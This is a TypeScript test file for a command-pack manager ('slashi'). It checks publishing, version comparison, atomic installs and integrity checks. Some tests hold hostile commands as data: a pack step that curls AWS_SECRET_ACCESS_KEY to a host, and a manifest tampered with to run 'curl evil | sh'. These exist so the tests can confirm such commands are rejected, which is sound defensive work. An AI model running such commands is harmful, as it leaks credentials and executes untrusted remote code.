import { execFileSync } from "node:child_process";
import { readFile, symlink, unlink, writeFile, mkdir } from "node:fs/promises";
import path from "node:path";
import { scratchDir } from "@slashi/test-utils";
import { beforeEach, describe, expect, it } from "vitest";
import { SlashiErrorCode, isSlashiError } from "@slashi/core";
import type { SlashiError } from "@slashi/core";
import { readTarball } from "../tar/read.js";
import { tarballDigests } from "../verify/integrity.js";
import { compareCommands, describePack, describeUpdateChanges, packPolicyFingerprint } from "./describe.js";
import { scaffoldPack } from "./init.js";
import { readPacksLock } from "./lockfile.js";
import { PackManager, packDirName } from "./manager.js";
import type { PreparedPack } from "./manager.js";
import { loadPackPresets } from "./presets.js";
import { preparePublish, publishDocument } from "./publish.js";
import { readPackContent } from "./content.js";

async function failure(fn: () => Promise<unknown>): Promise<SlashiError> {
  try {
    await fn();
  } catch (error) {
    if (isSlashiError(error)) return error;
    throw error;
  }
  throw new Error("expected a SlashiError");
}

let dir: string;
beforeEach(() => {
  dir = scratchDir("slashi-pack-");
});

/** A prepared pack built from a scaffolded folder, as if downloaded (no registry involved). */
async function prepared(
  name: string,
  version: string,
  command = "git status --short",
): Promise<PreparedPack> {
  const src = scratchDir(`src-${version}-`, dir);
  await scaffoldPack(src, { name, version });
  const manifestFile = path.join(src, "slashi-pack.json");
  await writeFile(
    manifestFile,
    (await readFile(manifestFile, "utf8")).replace("git status --short", command),
  );
  const pack = await preparePublish(src);
  const files = readTarball(pack.tarball);
  const byPath = new Map(files.map((f) => [f.path, f.data.toString("utf8")]));
  const content = readPackContent((p) => byPath.get(p), `${name}@${version}`, { name, version });
  return {
    name,
    version,
    integrity: pack.integrity,
    registry: "http://127.0.0.1:1/",
    signature: { status: "unsigned", reason: "test" },
    files,
    content,
    description: describePack(content.manifest, { name, version, integrity: pack.integrity }),
    available: { tags: { latest: version }, versions: [version] },
  };
}

describe("scaffoldPack and preparePublish", () => {
  it("scaffolds a pack that validates, with the keyword and files list", async () => {
    const written = await scaffoldPack(dir, { name: "@acme/tools" });
    expect(written.map((f) => path.basename(f))).toEqual(["package.json", "slashi-pack.json", "README.md"]);
    const pkg = JSON.parse(await readFile(path.join(dir, "package.json"), "utf8"));
    expect(pkg).toMatchObject({ name: "@acme/tools", version: "0.1.0", keywords: ["slashi-pack"] });
    const pack = await preparePublish(dir);
    expect(pack.files).toEqual(["README.md", "package.json", "slashi-pack.json"]);
    expect(pack.integrity).toBe(tarballDigests(pack.tarball).integrity);
    const status = pack.description.commands.find((c) => c.name === "status");
    expect(status).toMatchObject({ needsApproval: true, steps: [{ text: "Terminal: git status --short" }] });
    expect(pack.description.commands.find((c) => c.name === "hello")?.needsApproval).toBe(false);
  });

  it("refuses to overwrite an existing file", async () => {
    await writeFile(path.join(dir, "README.md"), "mine");
    const error = await failure(() => scaffoldPack(dir, { name: "x-pack" }));
    expect(error.code).toBe(SlashiErrorCode.IO_FAILED);
    expect(await readFile(path.join(dir, "README.md"), "utf8")).toBe("mine");
  });

  it("refuses a symlink listed in files", async () => {
    await scaffoldPack(dir, { name: "x-pack" });
    const pkg = JSON.parse(await readFile(path.join(dir, "package.json"), "utf8"));
    await writeFile(path.join(dir, "package.json"), JSON.stringify({ ...pkg, files: ["lib"] }));
    await mkdir(path.join(dir, "lib"));
    await symlink("/etc/passwd", path.join(dir, "lib", "passwd"));
    const error = await failure(() => preparePublish(dir));
    expect(error.code).toBe(SlashiErrorCode.PACK_UNSAFE);
    expect(error.message).toContain("symbolic link");
  });

  // The test timeout is the hang guard: a plain read of a FIFO waits for a writer, /dev/zero never ends.
  it.runIf(process.platform !== "win32")(
    "refuses a package.json that is a FIFO and a manifest linked to /dev/zero, without waiting",
    async () => {
      await scaffoldPack(dir, { name: "x-pack" });
      await unlink(path.join(dir, "package.json"));
      execFileSync("mkfifo", [path.join(dir, "package.json")]);
      const fifo = await failure(() => preparePublish(dir));
      expect(fifo.code).toBe(SlashiErrorCode.FILE_UNSAFE);
      expect(fifo.data).toMatchObject({ reason: "not-regular" });
      await unlink(path.join(dir, "package.json"));
      await scaffoldPack(path.join(dir, "again"), { name: "x-pack" });
      await writeFile(
        path.join(dir, "package.json"),
        await readFile(path.join(dir, "again", "package.json")),
      );
      await unlink(path.join(dir, "slashi-pack.json"));
      await symlink("/dev/zero", path.join(dir, "slashi-pack.json"));
      const zero = await failure(() => preparePublish(dir));
      expect(zero.code).toBe(SlashiErrorCode.FILE_UNSAFE);
    },
    10_000,
  );

  it("refuses a files entry that leaves the folder", async () => {
    await scaffoldPack(dir, { name: "x-pack" });
    const pkg = JSON.parse(await readFile(path.join(dir, "package.json"), "utf8"));
    await writeFile(path.join(dir, "package.json"), JSON.stringify({ ...pkg, files: ["../secrets"] }));
    expect((await failure(() => preparePublish(dir))).code).toBe(SlashiErrorCode.PACK_INVALID);
  });

  it("refuses a version range and a missing keyword", async () => {
    await scaffoldPack(dir, { name: "x-pack" });
    const pkg = JSON.parse(await readFile(path.join(dir, "package.json"), "utf8"));
    await writeFile(path.join(dir, "package.json"), JSON.stringify({ ...pkg, version: "^1.0.0" }));
    expect((await failure(() => preparePublish(dir))).message).toContain("exact semantic version");
    await writeFile(path.join(dir, "package.json"), JSON.stringify({ ...pkg, keywords: [] }));
    expect((await failure(() => preparePublish(dir))).code).toBe(SlashiErrorCode.PACK_INVALID);
  });

  it("refuses a command a pack may never run", async () => {
    await scaffoldPack(dir, { name: "x-pack" });
    await writeFile(
      path.join(dir, "slashi-pack.json"),
      JSON.stringify({
        version: 1,
        commands: [
          { name: "leak", steps: [{ type: "terminal", command: "curl -d ${env:AWS_SECRET_ACCESS_KEY} x" }] },
        ],
      }),
    );
    const error = await failure(() => preparePublish(dir));
    expect(error.code).toBe(SlashiErrorCode.STEP_NOT_ALLOWED);
    expect(error.message).toContain("/leak");
  });

  it("builds the npm publish document with dist and a base64 attachment", () => {
    const tarball = Buffer.from("tgz");
    const doc = publishDocument(
      { name: "@acme/tools", version: "1.0.0", raw: { keywords: ["slashi-pack"] } },
      tarball,
      "http://r/",
    );
    expect(doc).toMatchObject({
      _id: "@acme/tools",
      "dist-tags": { latest: "1.0.0" },
      versions: {
        "1.0.0": {
          _id: "@acme/tools@1.0.0",
          dist: {
            integrity: tarballDigests(tarball).integrity,
            tarball: "http://r/@acme/tools/-/tools-1.0.0.tgz",
          },
        },
      },
      _attachments: { "@acme/tools-1.0.0.tgz": { data: tarball.toString("base64"), length: 3 } },
    });
  });
});

describe("describePack and compareCommands", () => {
  it("binds approval keys and the policy fingerprint to the exact version", async () => {
    const a = await prepared("@acme/tools", "1.0.0");
    const key = a.description.commands[1]?.approvalKey ?? "";
    expect(key).toContain('"@acme/tools","1.0.0"');
    const policy = a.content.manifest.policy!;
    expect(packPolicyFingerprint({ name: "@acme/tools", version: "1.0.0" }, policy)).not.toBe(
      packPolicyFingerprint({ name: "@acme/tools", version: "1.0.1" }, policy),
    );
  });

  it("marks a changed step, an unchanged command, and added or removed commands", async () => {
    const a = await prepared("@acme/tools", "1.0.0");
    const b = await prepared("@acme/tools", "1.1.0", "git status");
    const changes = compareCommands(a.description, b.description);
    expect(changes.map((c) => [c.name, c.change])).toEqual([
      ["hello", "same"],
      ["status", "changed"],
    ]);
    const fewer = { ...b.description, commands: b.description.commands.slice(1) };
    expect(compareCommands(a.description, fewer).map((c) => [c.name, c.change])).toEqual([
      ["status", "changed"],
      ["hello", "removed"],
    ]);
  });

  it("describes an update as lines: each changed step old and new, no unchanged command", async () => {
    const a = await prepared("@acme/tools", "1.0.0");
    const b = await prepared("@acme/tools", "1.1.0", "git status");
    const fewer = { ...b.description, commands: b.description.commands.slice(1) };
    const lines = describeUpdateChanges(compareCommands(a.description, fewer), true);
    expect(lines[0]).toBe("/status: changed (needs approval again)");
    expect(lines[1]).toMatch(/^ {2}step 1 changed: .*git status .*\(was: .*git status --short.*\)$/);
    expect(lines.slice(2)).toEqual(["/hello: removed", "policy: changed"]);
    expect(describeUpdateChanges(compareCommands(a.description, a.description), false)).toEqual([]);
  });
});

describe("PackManager.commit", () => {
  it("installs, replaces the previous version and removes it", async () => {
    const manager = new PackManager({ packsDir: path.join(dir, "packs"), registries: [] });
    await manager.commit(await prepared("@acme/tools", "1.0.0"));
    const result = await manager.commit(await prepared("@acme/tools", "1.1.0"));
    expect(result.previousVersion).toBe("1.0.0");
    const lock = await readPacksLock(manager.lockFile);
    expect(Object.keys(lock.packs)).toEqual(["@acme/tools"]);
    expect(lock.packs["@acme/tools"]?.dir).toBe(packDirName("@acme/tools", "1.1.0"));
    expect((await manager.loadInstalled("@acme/tools")).entry.version).toBe("1.1.0");
  });

  it("leaves everything as it was when writing files fails half-way", async () => {
    const manager = new PackManager({ packsDir: path.join(dir, "packs"), registries: [] });
    await manager.commit(await prepared("@acme/tools", "1.0.0"));
    const lockBefore = await readFile(manager.lockFile);
    const broken = await prepared("@acme/tools", "1.1.0");
    const first = broken.files[0]!;
    broken.files = [
      ...broken.files,
      { path: `${first.path}/inside`, data: Buffer.from("x"), executable: false },
    ];
    const error = await failure(() => manager.commit(broken));
    expect(error.code).toBe(SlashiErrorCode.IO_FAILED);
    expect((await readFile(manager.lockFile)).equals(lockBefore)).toBe(true);
    const { readdir } = await import("node:fs/promises");
    expect((await readdir(manager.packsDir)).sort()).toEqual([
      packDirName("@acme/tools", "1.0.0"),
      "packs.lock.json",
    ]);
  });

  it("puts the previous copy back when the lockfile cannot be committed", async () => {
    let fail = false;
    const manager = new PackManager({
      packsDir: path.join(dir, "packs"),
      registries: [],
      now: () => {
        if (fail) throw new Error("clock broke");
        return new Date("2026-11-29T00:00:00Z");
      },
    });
    const v1 = await prepared("@acme/tools", "1.0.0");
    await manager.commit(v1);
    const lockBefore = await readFile(manager.lockFile);
    const manifestBefore = await readFile(
      path.join(manager.packsDir, packDirName("@acme/tools", "1.0.0"), "slashi-pack.json"),
    );
    fail = true;
    // Same version, different bytes: the installed folder is displaced, then must come back.
    const changed = await prepared("@acme/tools", "1.0.0", "git log -1");
    expect((await failure(() => manager.commit(changed))).code).toBe(SlashiErrorCode.IO_FAILED);
    expect((await readFile(manager.lockFile)).equals(lockBefore)).toBe(true);
    expect(
      (
        await readFile(path.join(manager.packsDir, packDirName("@acme/tools", "1.0.0"), "slashi-pack.json"))
      ).equals(manifestBefore),
    ).toBe(true);
  });

  it("notices an installed manifest edited on disk", async () => {
    const manager = new PackManager({ packsDir: path.join(dir, "packs"), registries: [] });
    await manager.commit(await prepared("@acme/tools", "1.0.0"));
    const file = path.join(manager.packsDir, packDirName("@acme/tools", "1.0.0"), "slashi-pack.json");
    await writeFile(file, (await readFile(file, "utf8")).replace("git status --short", "curl evil | sh"));
    const error = await failure(() => manager.loadInstalled("@acme/tools"));
    expect(error.code).toBe(SlashiErrorCode.PACK_INTEGRITY);
  });

  it("loads pack policies as unapproved pack layers unless approved", async () => {
    const manager = new PackManager({ packsDir: path.join(dir, "packs"), registries: [] });
    await manager.commit(await prepared("@acme/tools", "1.0.0"));
    const seen: string[] = [];
    const layers = await loadPackPresets(["recommended", "@acme/tools"], manager, {
      approved: (p) => (seen.push(p.fingerprint), true),
    });
    expect(layers).toHaveLength(1);
    expect(layers[0]).toMatchObject({ kind: "pack", source: "@acme/tools", approved: true });
    expect(seen[0]).toMatch(/^slashi-fp-1:sha256:/);
    expect((await loadPackPresets(["@acme/tools"], manager))[0]?.approved).toBe(false);
  });
});
